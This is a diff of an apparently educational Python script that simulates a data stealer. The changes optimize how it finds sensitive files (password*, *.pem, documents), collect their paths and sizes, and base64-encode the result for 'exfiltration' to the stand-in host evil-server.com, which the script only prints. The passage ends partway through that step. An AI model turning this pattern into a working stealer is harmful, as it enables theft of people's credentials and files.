@@ -5,15 +5,28 @@ Contains malicious patterns for educational testing
 """
 
 import os
-import glob
+import re
+import sys
+import fnmatch
+import itertools
 import base64
 import urllib.request
-import json
+
+try:
+    import orjson
+
+    def _dumps(data):
+        return orjson.dumps(data)
+except ImportError:
+    import json
+
+    def _dumps(data):
+        return json.dumps(data).encode()
 
 # Target file patterns (common sensitive files)
 TARGET_PATTERNS = [
     "*.txt",
-    "*.doc*", 
+    "*.doc*",
     "*.pdf",
     "*.xls*",
     "password*",
@@ -21,43 +34,57 @@ TARGET_PATTERNS = [
     "*.pem"
 ]
 
-def find_target_files(directory="."):
+# Compiled once: a single alternation matches any target pattern in one pass
+TARGET_REGEX = re.compile('|'.join(fnmatch.translate(p) for p in TARGET_PATTERNS))
+
+def _iter_target_files(directory):
+    """Lazily yield paths matching a sensitive pattern"""
+    with os.scandir(directory) as entries:
+        for entry in entries:
+            if entry.is_file() and TARGET_REGEX.match(entry.name):
+                yield entry.path
+
+def find_target_files(directory=".", limit=5):
     """Find files matching sensitive patterns"""
-    found_files = []
-    
     print(f"[DEMO] Scanning directory: {directory}")
-    
-    for pattern in TARGET_PATTERNS:
-        matches = glob.glob(os.path.join(directory, pattern))
-        found_files.extend(matches)
-    
+
+    # islice stops the scandir walk as soon as the demo cap is reached
+    found_files = list(itertools.islice(_iter_target_files(directory), limit))
+
     print(f"[DEMO] Found {len(found_files)} potential target files")
-    return found_files[:5]  # Limit for demo
+    return found_files
 
 def collect_file_data(file_paths):
     """Simulate sensitive data collection"""
     collected_data = []
-    
+    output = []
+
     for file_path in file_paths:
         try:
+            # One stat call covers both the existence check and the size
+            try:
+                size = os.stat(file_path).st_size
+            except OSError:
+                size = 0
             # In real malware: would read file contents
             file_info = {
                 'path': file_path,
-                'size': os.path.getsize(file_path) if os.path.exists(file_path) else 0,
+                'size': size,
                 'demo_note': 'File contents would be read here'
             }
             collected_data.append(file_info)
-            print(f"[DEMO] Would collect: {file_path}")
-        except:
+            output.append(f"[DEMO] Would collect: {file_path}\n")
+        except OSError:
             continue
-    
+
+    # One write instead of one print (and flush) per file
+    sys.stdout.write(''.join(output))
     return collected_data
 
 def exfiltrate_data(data):
     """Simulate data exfiltration"""
-    # Encode data for transmission
-    json_data = json.dumps(data)
-    encoded_data = base64.b64encode(json_data.encode()).decode()
+    # Encode data for transmission (orjson serializes straight to bytes)
+    encoded_data = base64.b64encode(_dumps(data)).decode()
     
     print("[DEMO] Would exfiltrate data to:")
     print("  URL: http://evil-server.com/collect")